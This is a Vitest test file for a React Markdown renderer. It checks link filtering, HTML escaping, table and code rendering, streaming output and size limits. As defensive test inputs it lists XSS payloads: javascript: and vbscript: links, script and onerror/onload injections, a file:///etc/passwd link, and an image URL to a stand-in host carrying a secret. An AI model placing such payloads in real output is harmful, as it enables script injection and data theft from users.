import { renderToStaticMarkup } from "react-dom/server";
import { IntlProvider } from "use-intl";
import { describe, expect, test } from "vitest";
import messages from "../../messages/en.json";
import { Markdown } from "./markdown.tsx";

const render = (text: string, streaming = false) =>
  renderToStaticMarkup(
    <IntlProvider locale="en" messages={messages} timeZone="UTC">
      <Markdown text={text} streaming={streaming} />
    </IntlProvider>,
  ).replace(/^<div class="markdown">|<\/div>$/g, "");

/** Addresses that the browser would go to or load. */
const addresses = (html: string) =>
  [...html.matchAll(/(?:href|src|srcset|action)="([^"]*)"/g)].map(([, value]) => value);

describe("links", () => {
  test("lead to the web or to mail, in a new tab, and tell where", () => {
    const html = render("[docs](https://example.com/a?b=1&c=2) <mailto:a@b.co> https://bare.example");
    expect(addresses(html)).toEqual(["https://example.com/a?b=1&amp;c=2", "mailto:a@b.co", "https://bare.example/"]);
    expect(html.match(/target="_blank" rel="noopener noreferrer nofollow"/g)).toHaveLength(3);
    expect(html).toContain('title="https://example.com/a?b=1&amp;c=2"');
  });

  test.each([
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](/relative)",
    "[x](//evil.example)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
  ])("%s is only its text", (text) => expect(addresses(render(text))).toEqual([]));

  test("a definition that comes later, in another block, is found", () => {
    expect(addresses(render("See [the docs][1].\n\nMore.\n\n[1]: https://example.com"))).toEqual([
      "https://example.com/",
    ]);
  });
});

test.each([
  "<b>bold</b>",
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "<!-- no -->",
  "<div>\n\n</div>",
])("HTML is text: %s", (text) => {
  const html = render(text);
  expect(html).toContain(text.split("\n")[0]?.replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;"));
  expect(html).not.toMatch(/<(?:b|script|img|div)\b/);
});

test("an image is never loaded: it is a link with its description", () => {
  for (const text of [
    "![A cat](https://evil.example/?d=secret)",
    "![A cat][c]\n\n[c]: https://evil.example/?d=secret",
  ]) {
    const html = render(text);
    expect(html).not.toMatch(/<img|src=|srcset=|url\(/);
    expect(addresses(html)).toEqual(["https://evil.example/?d=secret"]);
    expect(html).toContain("A cat");
  }
});

test("XM-1: nothing active comes out, however the text is cut", () => {
  const attack =
    "<img src=x onerror=alert(1)> [a](javascript:alert(1)) ![b](data:image/svg+xml,<svg onload=alert(1)>) <svg/onload=alert(1)> " +
    '`<script>` [c](https://ok.example "t\\" onclick=x") <a href=\'javascript:x\'>d</a>\n\n|<iframe src=x>|\n|-|\n|[e](vbscript:x)|';
  for (let end = 1; end <= attack.length; end++) {
    const html = render(attack.slice(0, end), true);
    const unquoted = html.replace(/"[^"]*"/g, '""');
    expect(unquoted).not.toMatch(/<(?:script|img|iframe|object|form|style|base|meta|svg on)\b|<[^>]*\son\w+=/i);
    for (const address of addresses(html)) expect(address).toMatch(/^https:\/\/ok\.example\//);
  }
});

describe("elements", () => {
  test("headings begin below the page's own", () => {
    expect(render("# a\n\n## b\n\n###### c")).toBe('<h2>a</h2><h3>b</h3><h6 aria-level="4">c</h6>');
  });

  test("nested lists, tasks and numbers", () => {
    expect(render("3. a\n   - b\n4. c")).toBe('<ol start="3"><li>a<ul><li>b</li></ul></li><li>c</li></ol>');
    expect(render("- [x] done\n- [ ] open")).toMatch(/<li><input[^>]*checked=""[^>]*\/>\s*done<\/li><li><input/);
  });

  test("a table in its frame, aligned", () => {
    const html = render("| a | b |\n|:-:|--:|\n| 1 | **2** |");
    expect(html).toContain('<th scope="col" data-align="center">a</th>');
    expect(html).toContain('<td data-align="right"><strong>2</strong></td>');
  });

  test("a header cell without a text is the header of nothing", () => {
    expect(render("| | &nbsp; | A |\n|--|:-:|--|\n| 1 | 2 | 3 |")).toContain(
      '<tr><td></td><td data-align="center"></td><th scope="col">A</th></tr>',
    );
  });

  test("code keeps its text, names its language and can be copied", () => {
    const html = render("```ts title=x\nif (a < b && c) {}\n```");
    expect(html).toContain("<code>if (a &lt; b &amp;&amp; c) {}</code>");
    expect(html).toContain('<span class="truncate font-mono">ts</span>');
    expect(html).toContain('aria-label="Copy code"');
  });

  test("character references are resolved in text, not in code", () => {
    expect(render("a &lt; b &amp; c &#233; `&lt;` &nosuch;")).toBe(
      "<p>a &lt; b &amp; c é <code>&amp;lt;</code> &amp;nosuch;</p>",
    );
  });

  test.each([
    ["**加粗。**后面", "<strong>加粗。</strong>后面"],
    ["前面**“引用”**后面", "前面<strong>“引用”</strong>后面"],
    ["中文**bold**中文", "中文<strong>bold</strong>中文"],
    ["**注意：**先看**说明（一）**再做", "<strong>注意：</strong>先看<strong>说明（一）</strong>再做"],
    ["한국어**(강조)**입니다", "한국어<strong>(강조)</strong>입니다"],
    ["2 ** 3 ** 4", "2 ** 3 ** 4"],
    ["`**`。**后", "<code>**</code>。**后"],
  ])("bold beside punctuation without spaces: %s", (text, html) => expect(render(text)).toBe(`<p>${html}</p>`));
});

describe("while it streams", () => {
  test.each([
    ["```js\nlet a", "<code>let a</code>"],
    ["a **bo", "<p>a <strong>bo</strong></p>"],
    ["a **bold*", "<p>a <strong>bold</strong></p>"],
    ["a **", "<p>a </p>"],
    ["call `foo(", "<p>call <code>foo(</code></p>"],
    ["see [the docs](https://exa", "<p>see the docs</p>"],
    ["see [the do", "<p>see the do</p>"],
    ["Points:\n-", "<p>Points:</p>"],
    ["- [ ", "<ul><li></li></ul>"],
  ])("what is begun looks as it will: %j", (text, html) => expect(render(text, true)).toContain(html));

  test("the text itself is not touched once it is complete", () => {
    expect(render("Title\n-")).toBe('<h3 aria-level="2">Title</h3>');
    expect(render("a **bo")).toBe("<p>a **bo</p>");
  });
});

describe("XM-13: work and output are bounded", () => {
  const hundredKilobytes = (unit: string) => unit.repeat(100_000 / unit.length);

  test.each([
    ">",
    "> ",
    "- ",
    "1. ",
    "[",
    "![",
    "**",
    "**a ",
    "a**b",
    "_a ",
    "`",
    "|",
    "~~a ",
    "<",
    "](",
    "\\",
    "a\n\n",
    "- a\n",
    "# a\n",
    "`a` ",
    "|a",
    "> a\n\n",
    "> # a\n",
    "---\n",
  ])("100 kB of %j: some dozens of levels, some thousands of elements", (unit) => {
    const html = render(hundredKilobytes(unit), true);
    let depth = 0;
    let deepest = 0;
    for (const [, close, name] of html.matchAll(/<(\/)?(\w+)[^>]*>/g)) {
      if (name === "input" || name === "hr" || name === "br") continue;
      depth += close ? -1 : 1;
      deepest = Math.max(deepest, depth);
    }
    expect(deepest).toBeLessThan(64);
    // what one step makes; the rest follows by and by
    expect(html.match(/<\w/g)?.length ?? 0).toBeLessThan(9_000);
  });

  test("a table of 5,000 rows shows some and offers the rest", () => {
    const html = render(`|a|b|\n|-|-|\n${"|1|2|\n".repeat(5000)}`);
    expect(html.match(/<tr>/g)).toHaveLength(201);
    expect(html).toContain("Show more of 4800 rows".replace("4800", "4,800"));
  });

  test("text that is too long to be read is laid out in pieces, and none of it is lost", () => {
    const text = `${"x".repeat(299_999)}👍 ${"y\n".repeat(20_000)}`.trimEnd();
    const html = render(text);
    expect(html.match(/class="plain-part"/g)?.length).toBeGreaterThan(40);
    expect(html.replace(/<\/p><p[^>]*>/g, "").replace(/<[^>]*>|\n/g, "")).toBe(text.replace(/\n/g, ""));
  });

  test("quotes within quotes within quotes, line upon line, are not read", () => {
    const lines = Array.from({ length: 400 }, (_, line) => `${"> ".repeat(line % 250)}x`);
    expect(render(lines.join("\n"))).not.toContain("<blockquote>");
    expect(render(`${"> ".repeat(40)}x`)).toContain("<blockquote>");
  });

  test("a megabyte of code is laid out in pieces of forty lines, and none of it is lost", () => {
    const code = "let a = 1;\n".repeat(100_000).trimEnd();
    const html = render(`\`\`\`\n${code}\n\`\`\``);
    expect(html.match(/class="code-lines"/g)).toHaveLength(2500);
    expect(html.match(/let a = 1;/g)).toHaveLength(100_000);
  });
});
